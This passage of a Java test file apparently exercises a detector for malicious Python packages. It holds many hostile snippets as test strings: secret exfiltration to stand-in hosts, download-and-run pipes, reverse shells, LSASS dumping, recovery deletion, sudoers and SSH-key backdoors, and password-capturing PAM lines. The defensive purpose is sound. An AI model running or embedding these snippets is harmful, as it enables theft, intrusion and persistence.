            + "requests.post('https://t.example/t', data=open(os.path.join(d, 'x'), 'rb'))\n";
    String library =
        "from trezorlib.client import get_default_client\nclient = get_default_client()\n";

    assertThat(levelIn(suite, "reads-and-posts")).isEqualTo(RiskLevel.HIGH);
    assertThat(check(wheelWith("pkg/hw.py", library))).isEmpty();
  }

  @Test
  void aSocketIoEventHandlerThatRunsWhatItIsSentIsHigh() {
    String handler =
        "import subprocess, socketio\nsio = socketio.Client()\n\n@sio.on('task')\n"
            + "def task(data):\n    r = subprocess.run(data['cmd'], shell=True, capture_output=True)\n"
            + "    sio.emit('result', r.stdout)\n\nsio.connect('https://l.example')\n";
    String chat =
        "import socketio\nsio = socketio.Client()\n\n@sio.on('message')\n"
            + "def message(data):\n    print(data['text'])\n\nsio.connect('https://l.example')\n";

    assertThat(levelIn(handler, "network-callback-runs")).isEqualTo(RiskLevel.HIGH);
    assertThat(check(wheelWith("pkg/chat.py", chat))).isEmpty();
  }

  @Test
  void aShortcutSavedInTheStartupFolderIsAnAutostart() {
    String startup =
        "import os, win32com.client\nshell = win32com.client.Dispatch('WScript.Shell')\n"
            + "link = shell.CreateShortcut(os.path.join(shell.SpecialFolders('Startup'), 'x.lnk'))\n"
            + "link.TargetPath = EXE\nlink.save()\n";
    String desktop =
        "import os, win32com.client\nshell = win32com.client.Dispatch('WScript.Shell')\n"
            + "link = shell.CreateShortcut(os.path.join(shell.SpecialFolders('Desktop'), 'x.lnk'))\n"
            + "link.TargetPath = EXE\nlink.save()\n";

    assertThat(levelIn(startup, "installs-autostart")).isEqualTo(RiskLevel.HIGH);
    assertThat(check(wheelWith("pkg/shortcut.py", desktop))).isEmpty();
  }

  @Test
  void codeAppendedToJupytersOrIpythonsStartUpFilesIsHigh() {
    String jupyter =
        "import os\ncfg = os.path.expanduser('~/.jupyter/jupyter_server_config.py')\n"
            + "with open(cfg, 'a') as fh:\n    fh.write('\\nimport subprocess\\n')\n";
    String ipython =
        "import pathlib, sys\nd = pathlib.Path.home() / '.ipython/profile_default/startup'\n"
            + "(d / '00-x.py').write_text(f'import os; os.system(\"{sys.executable} -m x\")')\n";
    String reader =
        "import os\ncfg = os.path.expanduser('~/.jupyter/jupyter_server_config.py')\n"
            + "print(open(cfg).read())\n";

    assertThat(levelIn(jupyter, "python-startup-written")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(ipython, "python-startup-written")).isEqualTo(RiskLevel.HIGH);
    assertThat(check(wheelWith("pkg/jupyter.py", reader))).isEmpty();
  }

  @Test
  void aPasswordlessSudoRuleWrittenIntoSudoersIsHigh() {
    String rule =
        "import subprocess\nrule = 'me ALL=(ALL) NOPASSWD: ALL'\n"
            + "subprocess.run(['sudo', 'tee', '/etc/sudoers.d/90-x'], input=rule, text=True)\n";
    String probe =
        "import subprocess\nsubprocess.run(['sudo', '-n', 'true'])  # NOPASSWD: needed for CI\n";

    assertThat(levelIn(rule, "grants-passwordless-sudo")).isEqualTo(RiskLevel.HIGH);
    assertThat(check(wheelWith("pkg/ci.py", probe))).isEmpty();
  }

  @Test
  void aRustBuildScriptThatPipesADownloadIntoAShellIsCritical() {
    String fetched =
        "use std::process::Command;\nfn main() {\n    Command::new(\"sh\").arg(\"-c\")\n"
            + "        .arg(\"curl -fsSL https://t.example/s | sh\").status().unwrap();\n}\n";
    String stamped =
        "use std::process::Command;\nfn main() {\n"
            + "    let o = Command::new(\"git\").args([\"rev-parse\", \"HEAD\"]).output().unwrap();\n"
            + "    println!(\"cargo:rustc-env=GIT_HASH={}\", String::from_utf8_lossy(&o.stdout));\n}\n";

    assertThat(only(check(sdistWith("pkg-2.0/build.rs", fetched)), "build-runs-download").level())
        .isEqualTo(RiskLevel.CRITICAL);
    // a build script that stamps the commit it was built from runs nothing it fetched
    assertThat(check(sdistWith("pkg-2.0/build.rs", stamped))).isEmpty();
  }

  @Test
  void theInterpretersPrivateForkExecRunsACommandLikeSubprocess() {
    String forked =
        "import os, _posixsubprocess\nargv = [b'/bin/sh', b'-c', b'wget -qO- https://f.example/u | sh']\n"
            + "r, w = os.pipe()\n_posixsubprocess.fork_exec(argv, [argv[0]], True, (), None, None,\n"
            + "    -1, -1, -1, -1, -1, -1, r, w, True, False, 0, None, None, None, -1, None, False)\n";
    String pipe =
        "import os\nr, w = os.pipe()\nos.write(w, b'wget -qO- https://f.example/u | sh')\n";

    assertThat(levelIn(forked, "runs-piped-download")).isEqualTo(RiskLevel.CRITICAL);
    assertThat(worst(check(wheelWith("pkg/pipe.py", pipe)))).isLessThan(RiskLevel.HIGH);
  }

  @Test
  void aShellToldToRunWhatACommandSubstitutionDownloadedIsCritical() {
    String evaluated =
        "import subprocess\nsubprocess.Popen(['bash', '-c', 'eval \"$(curl -fsSL https://e.example/i)\"'])\n";
    String sourced =
        "import subprocess\nsubprocess.run('bash -c \"source <(curl -s https://e.example/i)\"', shell=True)\n";
    String version =
        "import subprocess\nsubprocess.run(['bash', '-c', 'echo \"$(curl --version)\"'])\n";

    assertThat(levelIn(evaluated, "runs-piped-download")).isEqualTo(RiskLevel.CRITICAL);
    assertThat(levelIn(sourced, "runs-piped-download")).isEqualTo(RiskLevel.CRITICAL);
    // printing what curl says about itself runs nothing it downloaded
    assertThat(check(wheelWith("pkg/version.py", version)))
        .extracting(f -> f.evidence().values().get("pattern"))
        .doesNotContain("runs-piped-download");
  }

  @Test
  void aFunctionNameSpelledAsUtf16CodesIsADecodedName() {
    String utf16 =
        "import array, subprocess\n"
            + "name = array.array('H', [103, 101, 116, 111, 117, 116, 112, 117, 116]).tobytes().decode('utf-16-le')\n"
            + "getattr(subprocess, name)('id')\n";
    String samples =
        "import array\npcm = array.array('h', [0, 1024, -1024, 0]).tobytes()\nsink.write(pcm)\n";

    assertThat(levelIn(utf16, "calls-decoded-name")).isEqualTo(RiskLevel.HIGH);
    assertThat(check(wheelWith("pkg/audio.py", samples))).isEmpty();
  }

  @Test
  void aCommandModulesFunctionLookedUpByANameHeldInAVariableIsIndirect() {
    String held =
        "import subprocess\nname = 'getoutput'\nf = getattr(subprocess, name)\n"
            + "f('curl -s https://v.example/i | sh')\n";
    String ids = "import os\nfor n in ('getuid', 'getgid'):\n    print(n, getattr(os, n)())\n";

    assertThat(levelIn(held, "indirect-call-runs-download")).isEqualTo(RiskLevel.CRITICAL);
    assertThat(check(wheelWith("pkg/ids.py", ids))).isEmpty();
  }

  @Test
  void framesFromBettercamOrATraceOfAnotherProcessSentAreCritical() {
    String frames =
        "import bettercam, requests\ncam = bettercam.create()\nframe = cam.grab()\n"
            + "requests.post('https://f.example/f', data=frame.tobytes())\n";
    String traced =
        "import subprocess, requests\nout = subprocess.run(['strace', '-f', '-p', pid, '-e', 'trace=read'],\n"
            + "    capture_output=True, text=True).stderr\nrequests.post('https://t.example/t', data=out)\n";
    String ownTrace =
        "import subprocess\nsubprocess.run(['strace', '-f', '-o', 'trace.log', sys.executable, 'demo.py'])\n";

    assertThat(levelIn(frames, "screenshot-sent")).isEqualTo(RiskLevel.CRITICAL);
    assertThat(levelIn(traced, "keylogger-sent")).isEqualTo(RiskLevel.CRITICAL);
    // tracing a program it starts itself attaches to nobody else's
    assertThat(check(wheelWith("pkg/trace.py", ownTrace)))
        .extracting(f -> f.evidence().values().get("pattern"))
        .doesNotContain("keylogger-program", "keylogger-sent");
  }

  @Test
  void aiAssistantsTokensDaedalusWalletsAndSystemReportsSentAreHigh() {
    String assistants =
        "import pathlib, httpx\nfound = {}\n"
            + "for rel in ('.claude.json', '.codex/auth.json', '.gemini/oauth_creds.json'):\n"
            + "    p = pathlib.Path.home() / rel\n    found[rel] = p.read_text()\n"
            + "httpx.post('https://a.example/c', json=found)\n";
    String daedalus =
        "import os, requests\nw = os.path.join(os.environ['APPDATA'], 'Daedalus Mainnet', 'wallets')\n"
            + "requests.put('https://d.example/w', data=open(pack(w), 'rb').read())\n";
    String report =
        "import json, socket\n"
            + "r = {p: open(p).read() for p in ('/etc/os-release', '/proc/cpuinfo', '/proc/meminfo')}\n"
            + "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(json.dumps(r).encode(), (HOST, 53))\n";
    String cpuCount =
        "import requests\ncores = open('/proc/cpuinfo').read().count('processor')\n"
            + "requests.post(API, json={'job': job_id, 'workers': cores})\n";

    assertThat(levelIn(assistants, "reads-and-posts")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(daedalus, "reads-and-posts")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(report, "sends-secrets")).isEqualTo(RiskLevel.HIGH);
    // one count read from /proc/cpuinfo to size a job is no system report
    assertThat(check(wheelWith("pkg/jobs.py", cpuCount))).isEmpty();
  }

  @Test
  void aKeyAddedToAuthorizedKeysIsHigh() {
    String planted =
        "import os\nauth = os.path.join(os.path.expanduser('~'), '.ssh', 'authorized_keys')\n"
            + "with open(auth, 'a') as fh:\n    fh.write(KEY)\n";
    String keyed =
        "import subprocess\nKEY = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExampleKeyMaterial000000 ops@ci'\n"
            + "subprocess.run(['tee', '-a', '/root/.ssh/authorized_keys'], input=KEY, text=True)\n";
    String lister =
        "import os\nauth = os.path.expanduser('~/.ssh/authorized_keys')\n"
            + "for line in open(auth):\n    print(line.split()[-1])\n";

    assertThat(levelIn(planted, "plants-ssh-key")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(keyed, "plants-ssh-key")).isEqualTo(RiskLevel.HIGH);
    assertThat(check(wheelWith("pkg/keys.py", lister)))
        .extracting(f -> f.evidence().values().get("pattern"))
        .doesNotContain("plants-ssh-key");
  }

  @Test
  void aScriptInUpdateMotdAndGitsSshCommandRedirectedAreAutostarts() {
    String motd =
        "import os\npath = '/etc/update-motd.d/99-x'\nwith open(path, 'w') as fh:\n"
            + "    fh.write(SCRIPT)\nos.chmod(path, 0o755)\n";
    String ssh =
        "import subprocess\nsubprocess.run(['git', 'config', '--global', 'core.sshCommand', WRAPPER])\n";
    String local =
        "import subprocess\nsubprocess.run(['git', 'config', 'core.sshCommand', 'ssh -i deploy_key'])\n";

    assertThat(levelIn(motd, "installs-autostart")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(ssh, "installs-autostart")).isEqualTo(RiskLevel.HIGH);
    // one repository's own SSH key, set in that repository, changes nothing else
    assertThat(check(wheelWith("pkg/deploy.py", local))).isEmpty();
  }

  @Test
  void settingTheSystemsWebProxyIsMediumAndHighForAColourLibrary() {
    String proxy =
        "import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, PATH, 0, winreg.KEY_SET_VALUE)\n"
            + "winreg.SetValueEx(k, 'ProxyEnable', 0, winreg.REG_DWORD, 1)\n"
            + "winreg.SetValueEx(k, 'ProxyServer', 0, winreg.REG_SZ, '198.51.100.23:8080')\n";
    String reader =
        "import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, PATH)\n"
            + "server, _ = winreg.QueryValueEx(k, 'ProxyServer')\n";
    InspectedDistribution file = wheelWith("pkg/__init__.py", proxy);

    assertThat(only(check(file), "system-proxy-set").level()).isEqualTo(RiskLevel.MEDIUM);
    assertThat(
            only(checkClaiming("Lighten and darken hex colours", file), "capability-off-purpose")
                .level())
        .isEqualTo(RiskLevel.HIGH);
    // reading the proxy a user set, to use it, changes nothing
    assertThat(check(wheelWith("pkg/net.py", reader))).isEmpty();
  }

  @Test
  void codeHandedToTimeitTheCApiOrAnUnsafeYamlLoaderIsExecuted() {
    String timed =
        "import base64, timeit\ntimeit.timeit(base64.b64decode(STMT).decode(), number=1)\n";
    String pyRun =
        "import codecs, ctypes\n"
            + "ctypes.pythonapi.PyRun_SimpleString(codecs.decode(S, 'rot13').encode())\n";
    String yamlFetched =
        "import urllib.request, yaml\nraw = urllib.request.urlopen(URL).read()\n"
            + "cfg = yaml.load(raw, Loader=yaml.UnsafeLoader)\n";
    String benchmark = "import timeit\nprint(timeit.timeit('sorted(data)', globals=globals()))\n";
    String yamlSafe =
        "import urllib.request, yaml\nraw = urllib.request.urlopen(URL).read()\n"
            + "cfg = yaml.load(raw, Loader=yaml.SafeLoader)\n";

    assertThat(levelIn(timed, "exec-decoded-flow")).isEqualTo(RiskLevel.CRITICAL);
    assertThat(levelIn(pyRun, "exec-decoded-flow")).isEqualTo(RiskLevel.CRITICAL);
    assertThat(levelIn(yamlFetched, "exec-fetched")).isEqualTo(RiskLevel.CRITICAL);
    // timing a literal statement, and a fetched document read with the safe loader
    assertThat(check(wheelWith("pkg/bench.py", benchmark))).isEmpty();
    assertThat(patternsOf(check(wheelWith("pkg/cfg.py", yamlSafe)))).doesNotContain("exec-fetched");
  }

  @Test
  void theCLibrarysSystemGivenBytesRunsACommand() {
    String libc =
        "import ctypes, ctypes.util\nlibc = ctypes.CDLL(ctypes.util.find_library('c'))\n"
            + "libc.system(b'curl -fsSL https://l.example/p | sh')\n";
    String encoded =
        "import ctypes, requests\nlibc = ctypes.CDLL(None)\ncmd = requests.get(URL).text\n"
            + "libc.system(cmd.encode())\n";
    String printf = "import ctypes\nlibc = ctypes.CDLL(None)\nlibc.printf(b'%d\\n', 42)\n";

    assertThat(levelIn(libc, "runs-piped-download")).isEqualTo(RiskLevel.CRITICAL);
    assertThat(levelIn(encoded, "runs-fetched")).isEqualTo(RiskLevel.HIGH);
    assertThat(check(wheelWith("pkg/c.py", printf))).isEmpty();
  }

  @Test
  void deletingShadowCopiesEventLogsOrTheUsersFoldersIsHigh() {
    String recovery =
        "import subprocess\nfor c in ('vssadmin delete shadows /all /quiet', 'wevtutil cl System'):\n"
            + "    subprocess.run(c, shell=True)\n";
    String boot = "import os\nos.system('bcdedit /set {default} recoveryenabled No')\n";
    String wiper =
        "import os, shutil\nfor n in ('Documents', 'Desktop', 'Pictures'):\n"
            + "    shutil.rmtree(os.path.join(os.path.expanduser('~'), n), ignore_errors=True)\n";
    String listing = "import subprocess\nsubprocess.run(['vssadmin', 'list', 'shadows'])\n";
    String folders =
        "import os, shutil\nFOLDERS = ('Documents', 'Desktop', 'Pictures', 'Music')\n"
            + "def user_dir(name):\n    return os.path.join(os.path.expanduser('~'), name)\n"
            + "shutil.rmtree(os.path.join(CACHE, 'build'), ignore_errors=True)\n";

    assertThat(levelIn(recovery, "destroys-recovery")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(boot, "destroys-recovery")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(wiper, "wipes-user-folders")).isEqualTo(RiskLevel.HIGH);
    // listing shadow copies, and naming the user's folders to find them, delete nothing of theirs
    assertThat(check(wheelWith("pkg/vss.py", listing))).isEmpty();
    assertThat(check(wheelWith("pkg/dirs.py", folders))).isEmpty();
  }

  @Test
  void aContainerGivenTheHostsDiskAnAppAsarDownloadedOrAnEditorExtensionPlantedIsHigh() {
    String escape =
        "import json, socket\nsock = '/var/run/docker.sock'\n"
            + "spec = {'Image': 'alpine', 'HostConfig': {'Binds': ['/:/host'], 'Privileged': True}}\n";
    String dockerRun =
        "import subprocess\nsubprocess.run(['docker', 'run', '-v', '/:/mnt', 'alpine', 'sh', '-c', CMD])\n";
    String asar =
        "import os, shutil, urllib.request\nres = os.path.join(ROOT, 'resources')\n"
            + "urllib.request.urlretrieve(URL, os.path.join(res, 'app.asar'))\n";
    String extension =
        "import json, os\next = os.path.join(os.path.expanduser('~'), '.vscode', 'extensions', 'x')\n"
            + "with open(os.path.join(ext, 'package.json'), 'w') as fh:\n    json.dump(MANIFEST, fh)\n";
    String projectMount =
        "import subprocess\nsock = '/var/run/docker.sock'\n"
            + "subprocess.run(['docker', 'run', '-v', f'{os.getcwd()}:/src', 'builder'])\n";
    String extensionList =
        "import os\nroot = os.path.expanduser('~/.vscode/extensions')\nprint(os.listdir(root))\n";

    assertThat(levelIn(escape, "container-escapes-to-host")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(dockerRun, "container-escapes-to-host")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(asar, "replaces-app-bundle")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(extension, "plants-editor-extension")).isEqualTo(RiskLevel.HIGH);
    // the project mounted into a build container; the installed extensions listed
    assertThat(check(wheelWith("pkg/build.py", projectMount))).isEmpty();
    assertThat(check(wheelWith("pkg/ext.py", extensionList))).isEmpty();
  }

  @Test
  void aNotebookServerWithoutATokenIsHighBehindAPublicTunnel() {
    String open =
        "import subprocess, sys\nsubprocess.Popen([sys.executable, '-m', 'jupyter', 'lab',\n"
            + "    '--ServerApp.token=', '--ServerApp.password=', '--port=8765'])\n";
    String tunnelled =
        open + "subprocess.Popen(['cloudflared', 'tunnel', '--url', 'http://localhost:8765'])\n";
    String tokened =
        "import subprocess, sys, secrets\ntoken = secrets.token_hex(16)\n"
            + "subprocess.Popen([sys.executable, '-m', 'jupyter', 'lab', f'--ServerApp.token={token}'])\n";

    assertThat(levelIn(tunnelled, "exposes-notebook")).isEqualTo(RiskLevel.HIGH);
    // alone it is a convenience real tools offer inside a container (wandb's docker command)
    assertThat(check(wheelWith("pkg/nb.py", open))).isEmpty();
    assertThat(check(wheelWith("pkg/nb.py", tokened))).isEmpty();
  }

  @Test
  void processMemoryADialogsPasswordAndWifiKeysSentAreSecretsSent() {
    String memory =
        "import requests\nwith open(f'/proc/{pid}/mem', 'rb', 0) as mem:\n"
            + "    mem.seek(start)\n    chunk = mem.read(size)\n"
            + "requests.post('https://m.example/s', data=chunk)\n";
    String dialog =
        "import subprocess, requests\n"
            + "asked = subprocess.run(['zenity', '--password', '--title=Update'], capture_output=True, text=True)\n"
            + "requests.post('https://p.example/p', json={'p': asked.stdout})\n";
    String wifi =
        "import subprocess, requests\n"
            + "k = subprocess.run(['nmcli', '-s', '-g', '802-11-wireless-security.psk', 'connection', 'show', n],\n"
            + "    capture_output=True, text=True).stdout\nrequests.post('https://w.example/w', json={'k': k})\n";
    String status = "with open(f'/proc/{pid}/status') as fh:\n    print(fh.read())\n";

    assertThat(levelIn(memory, "sends-secrets")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(dialog, "sends-secrets")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(wifi, "sends-secrets")).isEqualTo(RiskLevel.HIGH);
    assertThat(check(wheelWith("pkg/ps.py", status))).isEmpty();
  }

  @Test
  void aScreenSaverAndTmuxsConfigurationAreStartUpPrograms() {
    String saver =
        "import winreg\nwith winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Control Panel\\Desktop', 0,\n"
            + "        winreg.KEY_SET_VALUE) as key:\n"
            + "    winreg.SetValueEx(key, 'SCRNSAVE.EXE', 0, winreg.REG_SZ, TARGET)\n";
    String tmux =
        "import os, sys\nconf = os.path.join(os.path.expanduser('~'), '.tmux.conf')\n"
            + "with open(conf, 'a') as fh:\n"
            + "    fh.write('run-shell -b \"%s -m pkg.agent\"\\n' % sys.executable)\n";
    String tmuxRead =
        "import os\nconf = os.path.expanduser('~/.tmux.conf')\nprefix = 'C-b'\n"
            + "for line in open(conf):\n    if line.startswith('set -g prefix'):\n"
            + "        prefix = line.split()[-1]\n";

    assertThat(levelIn(saver, "installs-autostart")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(tmux, "shell-profile-trap")).isEqualTo(RiskLevel.HIGH);
    assertThat(check(wheelWith("pkg/mux.py", tmuxRead))).isEmpty();
  }

  @Test
  void codeHandedToAProfilerOrTheDebuggerIsExecuted() {
    String profiled =
        "import base64, cProfile, zlib\n"
            + "cProfile.run(zlib.decompress(base64.b64decode(P)).decode())\n";
    String debugged = "import pdb, urllib.request\npdb.run(urllib.request.urlopen(URL).read())\n";
    String profiling = "import cProfile\ncProfile.run('main()', 'out.prof')\n";
    String calculator =
        "def start(profile, directory):\n    profile.run(directory, None, 'out.txt')\n";

    assertThat(levelIn(profiled, "exec-decoded-flow")).isEqualTo(RiskLevel.CRITICAL);
    assertThat(levelIn(debugged, "exec-fetched")).isEqualTo(RiskLevel.CRITICAL);
    // a literal statement profiled, and an object that happens to be called profile
    assertThat(check(wheelWith("pkg/perf.py", profiling))).isEmpty();
    assertThat(check(wheelWith("pkg/calc.py", calculator))).isEmpty();
  }

  @Test
  void aCallOnAModuleFoundByALookupIsFollowedThoughItsNameIsNeverWritten() {
    String execv =
        "m = __import__('o' + 's')\n"
            + "m.execv('/bin/sh', ['sh', '-c', 'curl -fsSL https://x.example/i | sh'])\n";
    String plugin =
        "import importlib\nmod = importlib.import_module(NAME)\nmod.execute(query, timeout=5)\n";

    assertThat(levelIn(execv, "runs-piped-download")).isEqualTo(RiskLevel.CRITICAL);
    assertThat(check(wheelWith("pkg/plugins.py", plugin))).isEmpty();
  }

  @Test
  void linuxAndMacosDefencesSwitchedOffWeakenTheHost() {
    String selinux = "import subprocess\nsubprocess.run(['setenforce', '0'])\n";
    String firewall = "import os\nos.system('ufw disable; iptables -F')\n";
    String gatekeeper = "import subprocess\nsubprocess.run(['spctl', '--master-disable'])\n";
    String status =
        "import subprocess\nfor c in (['getenforce'], ['ufw', 'status'], ['iptables', '-L']):\n"
            + "    subprocess.run(c)\n";

    assertThat(levelIn(selinux, "weakens-antivirus")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(firewall, "weakens-antivirus")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(gatekeeper, "weakens-antivirus")).isEqualTo(RiskLevel.HIGH);
    assertThat(check(wheelWith("pkg/status.py", status))).isEmpty();
  }

  @Test
  void lsassDumpedAndKerberosTicketsSentAreStolen() {
    String comsvcs =
        "import subprocess\nsubprocess.run(['rundll32.exe', r'C:\\Windows\\System32\\comsvcs.dll,',"
            + " 'MiniDump', pid, out, 'full'])\n";
    String procdump = "import os\nos.system('procdump64.exe -accepteula -ma lsass.exe out.dmp')\n";
    String tickets =
        "import glob, requests\nfor p in glob.glob('/tmp/krb5cc_*') + ['/etc/krb5.keytab']:\n"
            + "    requests.post(URL, data=open(p, 'rb').read())\n";
    String ownDump =
        "import ctypes\ndbghelp = ctypes.windll.dbghelp\n"
            + "dbghelp.MiniDumpWriteDump(kernel32.GetCurrentProcess(), pid, out, 2, None, "
            + "None, None)\n";
    String cachePath = "import os\nprint(os.environ.get('KRB5CCNAME', 'unset'))\n";

    assertThat(levelIn(comsvcs, "lsass-dump")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(procdump, "lsass-dump")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(tickets, "sends-secrets")).isEqualTo(RiskLevel.HIGH);
    // a crash dump of its own process, and the cache's variable printed
    assertThat(check(wheelWith("pkg/dump.py", ownDump))).isEmpty();
    assertThat(check(wheelWith("pkg/krb.py", cachePath))).isEmpty();
  }

  @Test
  void gawksNetworkFilesAndAShellPipedThroughOpensslAreReverseShells() {
    String gawk =
        "import subprocess\nsubprocess.Popen(['gawk', 'BEGIN { s = \"/inet/tcp/0/10.0.0.9/4444\";"
            + " while ((s |& getline c) > 0) { print c |& s } }'])\n";
    String openssl =
        "import os\n"
            + "os.system('/bin/sh -i < /tmp/f 2>&1 | openssl s_client -quiet -connect h:443 "
            + "> /tmp/f')\n";
    String certificate =
        "import subprocess\nsubprocess.run(['openssl', 's_client', '-connect', 'h:443', "
            + "'-showcerts'])\n";

    assertThat(levelIn(gawk, "dev-tcp")).isEqualTo(RiskLevel.CRITICAL);
    assertThat(levelIn(openssl, "dev-tcp")).isEqualTo(RiskLevel.CRITICAL);
    assertThat(check(wheelWith("pkg/tls.py", certificate))).isEmpty();
  }

  @Test
  void aptHooksSshCommandsLsaPackagesAndCredentialHelpersRunOnTheirOwn() {
    String apt =
        "import sys\nwith open('/etc/apt/apt.conf.d/95sync', 'w') as fh:\n"
            + "    fh.write('APT::Update::Pre-Invoke {\"%s -m pkg\";};' % sys.executable)\n";
    String ssh =
        "import os\nconfig = os.path.join(os.path.expanduser('~'), '.ssh', 'config')\n"
            + "with open(config, 'a') as fh:\n"
            + "    fh.write(\"\"\"\nHost *\n    PermitLocalCommand yes\n    LocalCommand "
            + "~/.x &\n\"\"\")\n";
    String lsa =
        "import winreg\n"
            + "key = winreg.OpenKey(winreg.HKEY_LOCAL_MACHINE, "
            + "r'SYSTEM\\CurrentControlSet\\Control\\Lsa')\n"
            + "winreg.SetValueEx(key, 'Notification Packages', 0, winreg.REG_MULTI_SZ, "
            + "['scecli', 'pwf'])\n";
    String docker =
        "import json, os\nhelper = os.path.expanduser('~/.local/bin/docker-credential-sync')\n"
            + "with open(helper, 'w') as fh:\n    fh.write(SCRIPT)\n"
            + "config['credsStore'] = 'sync'\n";
    String aptUpdate = "import subprocess\nsubprocess.run(['apt-get', 'update'])\n";
    String sshHosts =
        "import os\nconfig = os.path.join(os.path.expanduser('~'), '.ssh', 'config')\n"
            + "hosts = [l.split()[1] for l in open(config) if l.startswith('Host ')]\n";
    String lsaRead =
        "import winreg\n"
            + "key = winreg.OpenKey(winreg.HKEY_LOCAL_MACHINE, "
            + "r'SYSTEM\\CurrentControlSet\\Control\\Lsa')\n"
            + "packages, _ = winreg.QueryValueEx(key, 'Notification Packages')\n";
    String dockerClient =
        "import subprocess\nstore = config.get('credsStore')\nPREFIX = 'docker-credential-'\n"
            + "out = subprocess.run([PREFIX + store, 'get'], input=registry, "
            + "capture_output=True)\n";

    assertThat(levelIn(apt, "installs-autostart")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(ssh, "ssh-config-runs-command")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(lsa, "lsa-package-registered")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(docker, "docker-credential-helper-planted")).isEqualTo(RiskLevel.HIGH);
    // the package lists updated, SSH's hosts listed, LSA's packages read, a helper asked
    assertThat(check(wheelWith("pkg/apt.py", aptUpdate))).isEmpty();
    assertThat(check(wheelWith("pkg/ssh.py", sshHosts))).isEmpty();
    assertThat(check(wheelWith("pkg/lsa.py", lsaRead))).isEmpty();
    assertThat(check(wheelWith("pkg/auth.py", dockerClient))).isEmpty();
  }

  @Test
  void aDownloadFreedFromQuarantineAndPrivacyGrantsWrittenIntoTccAreHigh() {
    String quarantine =
        "import subprocess, urllib.request\nurllib.request.urlretrieve(URL, '/tmp/H.zip')\n"
            + "subprocess.run(['xattr', '-dr', 'com.apple.quarantine', '/tmp/H.app'])\n";
    String tcc =
        "import os, sqlite3\n"
            + "db = os.path.expanduser('~/Library/Application Support/com.apple.TCC/TCC.db')\n"
            + "sql = \"INSERT OR REPLACE INTO access VALUES (?, ?, 0, 2)\"\n"
            + "sqlite3.connect(db).execute(sql, row)\n";
    String ownBinary =
        "import subprocess\nsubprocess.run(['xattr', '-d', 'com.apple.quarantine', "
            + "BUNDLED_DRIVER])\n";
    String tccRead =
        "import os, sqlite3\n"
            + "db = os.path.expanduser('~/Library/Application Support/com.apple.TCC/TCC.db')\n"
            + "sql = 'SELECT service, client FROM access'\n"
            + "rows = sqlite3.connect(db).execute(sql).fetchall()\n";

    assertThat(levelIn(quarantine, "downloads-past-gatekeeper")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(tcc, "grants-privacy-permissions")).isEqualTo(RiskLevel.HIGH);
    // its own bundled program freed, and the permissions read
    assertThat(check(wheelWith("pkg/driver.py", ownBinary))).isEmpty();
    assertThat(check(wheelWith("pkg/tcc.py", tccRead))).isEmpty();
  }

  @Test
  void aCommandSetInAnotherProgramsConfigurationIsMediumAndHighWhenItSendsWhatItIsGiven() {
    String aws =
        "import configparser\nparser = configparser.RawConfigParser()\n"
            + "parser.set('default', 'credential_process', f'{sys.executable} -m pkg.refresh')\n";
    String kube =
        "user['exec'] = {'apiVersion': 'client.authentication.k8s.io/v1beta1', "
            + "'command': sys.executable, 'args': ['-m', 'pkg.auth']}\n";
    String git =
        "import subprocess\nHELPER = '!f() { in=$(cat); printf \"%s\" \"$in\" | "
            + "curl -s --data-binary @- https://h.example/c; }; f'\n"
            + "subprocess.run(['git', 'config', '--global', 'credential.helper', HELPER])\n";
    String botocore =
        "credential_process = self._credential_process\n"
            + "command = config.get('credential_process')\n";
    String gitStore =
        "import subprocess\n"
            + "subprocess.run(['git', 'config', '--global', 'credential.helper', 'store'])\n";

    assertThat(levelIn(aws, "command-in-tool-config")).isEqualTo(RiskLevel.MEDIUM);
    assertThat(levelIn(kube, "command-in-tool-config")).isEqualTo(RiskLevel.MEDIUM);
    assertThat(levelIn(git, "configured-command-sends")).isEqualTo(RiskLevel.HIGH);
    // the setting read, and Git given its own store
    assertThat(check(wheelWith("pkg/creds.py", botocore))).isEmpty();
    assertThat(check(wheelWith("pkg/login.py", gitStore))).isEmpty();
  }

  @Test
  void aPasswordPromptOrPamLinePipingPasswordsOutIsHigh() {
    String sudo =
        "WRAPPER = '''#!/bin/bash\nread -r -s -p \"[sudo] password for $USER: \" answer\n"
            + "printf '%s' \"$answer\" | nc -w 3 10.0.0.9 8443\n'''\n"
            + "open(path, 'w').write(WRAPPER)\n";
    String pam =
        "LINE = 'auth optional pam_exec.so quiet expose_authtok /usr/local/lib/.audit'\n"
            + "with open('/etc/pam.d/common-auth', 'a') as fh:\n    fh.write(LINE)\n";
    String invoke = "DEFAULTS = {'sudo': {'prompt': '[sudo] password: ', 'user': None}}\n";
    String pamNotice = "LINE = 'session optional pam_exec.so /usr/local/bin/notify-login'\n";

    assertThat(levelIn(sudo, "captured-password-sent")).isEqualTo(RiskLevel.HIGH);
    assertThat(levelIn(pam, "pam-exec-authtok")).isEqualTo(RiskLevel.HIGH);
    // a task runner's own sudo prompt, and a login notice that is given no password
    assertThat(check(wheelWith("pkg/config.py", invoke))).isEmpty();
    assertThat(check(wheelWith("pkg/pam.py", pamNotice))).isEmpty();
  }

